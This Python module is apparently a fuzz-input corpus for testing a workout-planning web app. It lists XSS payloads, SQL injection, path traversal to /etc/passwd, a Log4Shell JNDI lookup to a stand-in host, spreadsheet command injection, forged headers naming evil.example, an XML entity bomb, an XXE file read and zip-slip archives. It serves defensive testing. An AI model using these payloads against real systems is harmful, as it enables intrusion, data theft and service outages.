"""What is sent in the place of what belongs there."""

from __future__ import annotations

import io
import random
import zipfile

# Whatever of this comes back as markup, or as an address to press, is a hole. MARK finds it.
MARK = "fzz"
SCRIPTS = [
    f"<script>{MARK}(1)</script>",
    f'"><img src={MARK} onerror={MARK}(1)>',
    f"'><svg/onload={MARK}(1)>",
    f"' onmouseover='{MARK}(1)",
    f'" autofocus onfocus="{MARK}(1)',
    f"</textarea><{MARK}-x>",
    f"</title><{MARK}-x>",
    f"--><{MARK}-x>",
    f"</script><{MARK}-x>",
    f"javascript:{MARK}(1)",
    f"  JaVaScRiPt:{MARK}(1)",
    f"data:text/html,<script>{MARK}(1)</script>",
    f"vbscript:{MARK}(1)",
    f"java\tscript:{MARK}(1)",
    f"https://x.example/'onclick='{MARK}(1)",
    f"{{{{ {MARK}.password }}}}{{% debug %}}",
    f"＜{MARK}-x＞",  # folds to markup under NFKC
]
# Names that fields have somewhere.
FIELDS = (
    "name sport line text lines position order week day weeks to_week target_week every deload volume adjustment add "
    "amount session exercise group letter kind rounds rest sets reps duration_weeks day_names difficulty visibility "
    "version seen time_of_day notes note phase is_deload number theme next action section description units email "
    "aliases muscles equipment pattern level video_url status cues measures pool effort direction before label with "
    "code credential login password password1 password2 oldpassword remember passwordless public"
).split()
TEXTS = [
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nSet-Cookie: a=b",
    "\n",
    "\t",
    "\x1b[31m",
    "\x85\u2028\u2029",
    "\ufeff",
    "\uffff\ufffe",
    "\u202eabc\u202c",
    "e" + "\u0301" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "ß" * 40,
    "ﷺ" * 60,  # one letter becomes eighteen under NFKC
    "İI\u0131i",
    "x" * 121,
    "x" * 201,
    "x" * 5_000,
    "9" * 5_000,  # past what Python reads as a number
    "\n" * 3_000,
    "- " * 3_000,
    "(" * 2_000,
    "1,2,3," * 500,
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\windows\\win.ini",
    "/dev/zero",
    "file:///etc/passwd",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    "http://[",
    "http://[::1",
    "' OR 1=1 --",
    "%",
    "_",
    "%s%n%(x)s",
    "{0.__class__}",
    "${jndi:ldap://x.example/a}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "on",
    "true",
    "null",
    "None",
    "undefined",
    "[]",
    "{}",
    '{"a":',
    "[object Object]",
]
NUMBERS = [
    "0",
    "-1",
    "-0",
    "1",
    "7",
    "8",
    "52",
    "53",
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 40,
    "9" * 4_301,
    "1e5",
    "1e999",
    "1e-999",
    "NaN",
    "sNaN",
    "Infinity",
    "-inf",
    "0x10",
    "1_000",
    "1,5",
    "1.5",
    "0." + "3" * 60,
    "٣",  # a digit in another script
    "²",
    "½",
    "+1",
    " 1 ",
    "1.0",
]
DATES = [
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2027-02-30",
    "-2027-01-01",
    "2027-W01",
    "2027-13-01",
    "24:00",
    "25:61",
    "12:00",
    "2027-01-04T00:00",
    "2027-01-04",
]
# What a coach could have sent, to get past the first question.
PLAUSIBLE = [
    "Back squat 5x5 @ 80% rest 3:00",
    "Easy run 40:00 Z1",
    "A1. Bench press 3x8\nA2. Row 3x8",
    "10 min EMOM: 5 burpees",
    "Week 1\nMonday\nSquat 5x5\nWednesday\nRun 5 km",
    "up",
    "down",
    "end:main",
    "start:warmup",
    "start:main:Power",
    "1",
    "3",
    "10",
    "2027-01-04",
    "copy",
    "move",
    "UTC",
    "Europe/Lisbon",
    "strength",
    "main",
    "12",
    "a@b.example",
    "week",
    "linear",
    "private",
    "public",
]
SEGMENTS = [
    "x",
    "0",
    "-1",
    "C" * 25,
    "c" * 25,
    "c0000000000000000000000zz",
    "9" * 5_000,
    "%00",
    "%0d%0aX-A:%20b",
    "%2e%2e%2f%2e%2e",
    "%ff%fe",
    "%ed%a0%80",
    "%F0%9F%98%80",
    "%3Cfzz-x%3E",
    "%22%27",
    "999999999999999999999",
    "1_0",
    "%D9%A3",
]
HEADERS: list[dict[str, str]] = [
    {"HX-Request": "true"},
    {"HX-Request": "true", "HX-Boosted": "true"},
    {"HX-Request": "true", "HX-Target": f'"><{MARK}-x>'},
    {"HX-Request": "true", "HX-Current-URL": f"javascript:{MARK}(1)", "HX-Current-URL-URI-AutoEncoded": "x"},
    {"HX-Request": "true", "HX-Current-URL": "http://[", "HX-Prompt": f"<{MARK}-x>"},
    {"HX-Request": "true", "HX-Current-URL": f"http://testserver/exercises/?q=a%00b&muscle=%ff<{MARK}-x>&page=9e9"},
    {"HX-Request": "true", "HX-Current-URL": f"http://testserver/exercises/?q=<{MARK}-x>&muscle=%ff&page=9e9"},
    {"HX-Request": "true", "HX-Trigger-Name": "%ff", "HX-Trigger-Name-URI-AutoEncoded": "true"},
    {"HX-History-Restore-Request": "true", "HX-Request": "true"},
    {"Referer": "http://["},
    {"Referer": "http://testserver//evil.example/"},
    {"Referer": f"javascript:{MARK}(1)"},
    {"Referer": "http://testserver/programs/?q=" + "x" * 4_000},
    {"Accept-Language": "x" * 600 + ",*;q=nan"},
    {"If-None-Match": '*, W/"', "If-Modified-Since": "Thu, 99 Foo 0000"},
    {"Range": "bytes=9-1,-", "Accept-Encoding": "br;q=-1"},
    {"Accept": "text/html;q=x;" + "," * 400},
    {"X-Request-ID": f"<{MARK}-x>\x7f", "X-Forwarded-For": "1.2.3.4, \x00", "X-Forwarded-Proto": "gopher"},
    {"Host": "evil.example"},
    {"Host": "testserver:99999999"},
    {"Host": f"<{MARK}-x>"},
    {"Origin": "null"},
    {"Cookie": f"theme=<{MARK}-x>; zoom=\x00; messages=x:y:z; sessionid=" + "a" * 300},
    {"Cookie": 'messages="[[\\"__json_message\\"; csrftoken=' + "é" * 40},
    {"Content-Length": "9" * 30},
    {"Content-Length": "-5"},
    {"User-Agent": f"<{MARK}-x>" + "x" * 4_000},
    {"Authorization": "Bearer \x00"},
]
# How a body may say what it is, and not be it.
KINDS = [
    "application/json",
    "text/plain",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=nowhere",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=" + "x" * 300,
    "multipart/form-data; boundary=é",
    "multipart/mixed; boundary=b",
    "",
    ";;;",
]


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


_ENTITIES = b"".join(b'<!ENTITY a%d "%s">' % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 9))
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "x">' + _ENTITIES + b"]><workout_file>&a8;</workout_file>"
OUTSIDE = b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><workout_file><name>&e;</name></workout_file>'
SHEET = "xl/worksheets/sheet1.xml"
FILES: list[tuple[str, bytes]] = [
    ("a.zwo", BOMB),
    ("a.zwo", OUTSIDE),
    ("a.zwo", b"<workout_file>" * 5_000),
    ("a.zwo", b'<workout_file><workout><SteadyState Duration="nan" Power="inf"/></workout></workout_file>'),
    (
        "a.zwo",
        b'<workout_file><workout><IntervalsT Repeat="99999999" OnDuration="1" OffDuration="1"/></workout></workout_file>',
    ),
    ("a.erg", b"[COURSE DATA]\n0 1e400\n1e308 5\nnan nan\n[END COURSE DATA]"),
    ("a.mrc", b"[COURSE HEADER]\n[END COURSE HEADER]\n[COURSE DATA]\n" + b"0 50\n" * 9_000),
    ("a.fit", b"\x0e\x10\x00\x00\xff\xff\xff\xff.FIT\x00\x00"),
    ("a.json", b"[" * 90_000),
    ("a.json", b'{"a":' * 30_000),
    ("a.json", b'{"name": "\\ud800", "weeks": [{"\\udfff": 1}]}'),
    ("a.json", b'{"format": "trainhub", "version": ' + b"9" * 5_000 + b"}"),
    ("a.json", b'{"weeks": NaN, "name": Infinity, "exercises": -Infinity}'),
    ("a.json", b"\xff\xfe{\x00}\x00"),
    ("a.json", b"nul\0"),
    ("a.csv", b'"' + b"x" * 200_000),
    ("a.csv", b"name;sport\n" + b"a;" * 9_000),
    ("a.csv", "week,day,exercise\n1,1,\ud800\n".encode("utf-8", "surrogatepass")),
    ("a.csv", "week,day,exercise\n9999999999,-1,=1+1\n".encode("utf-16")),
    ("a.csv", b"week\r\r\n\0\r1"),
    ("a.xlsx", b"PK\x03\x04" + b"\0" * 60),
    ("a.xlsx", _zip({"[Content_Types].xml": b"<a/>", SHEET: b"0" * 20_000_000})),
    ("a.xlsx", _zip({"[Content_Types].xml": BOMB, "xl/workbook.xml": BOMB})),
    ("a.xlsx", _zip({"../../x": b"x", "/etc/passwd": b"x"})),
    ("../../../etc/passwd", b"x"),
    ("a\0.csv", b"a,b\n1,2\n"),
    (f"<{MARK}-x>.csv", f"name\n<{MARK}-x>\n".encode()),
    ("x" * 400 + ".txt", b"Squat 5x5\n" * 4_000),
    ("", b""),
    ("a.txt", bytes(range(256)) * 40),
    ("a.txt", b"\xef\xbb\xbf" + "Squat 5x5 @ ٣%\n".encode() * 200),
]


def nonsense(chance: random.Random) -> str:
    """One text that nobody means."""
    kind = chance.random()
    if kind < 0.3:
        return chance.choice(SCRIPTS)
    if kind < 0.55:
        return chance.choice(NUMBERS)
    if kind < 0.62:
        return chance.choice(DATES)
    if kind < 0.9:
        return chance.choice(TEXTS)
    return "".join(chr(chance.choice(_LETTERS)) for _ in range(chance.randrange(1, 200)))


# Any letter but the lone surrogates, which no address and no form can carry; files and JSON can, and do above.
_LETTERS = [
    *range(1, 0x300),
    *range(0x5D0, 0x700),
    *range(0x2000, 0x2100),
    *range(0xFE00, 0x10000),
    *range(0x1F600, 0x1F650),
]


def damaged(chance: random.Random, content: bytes) -> bytes:
    """A file that was right, with something of it cut off, turned, doubled or put in."""
    if not content:
        return b"\0"
    place, kind = chance.randrange(len(content)), chance.randrange(5)
    if kind == 0:
        return content[:place]
    if kind == 1:
        return content[:place] + bytes([content[place] ^ (1 << chance.randrange(8))]) + content[place + 1 :]
    if kind == 2:
        return content[:place] + content
    put = nonsense(chance).encode()
    if kind == 3:
        return content[:place] + put + content[place:]
    words = [word for word in (b"1", b"name", b"week", b"5", b":", b'"', b",", b"\n", b"0") if word in content]
    return content.replace(chance.choice(words), put[:40], chance.choice([1, 3])) if words else content + put
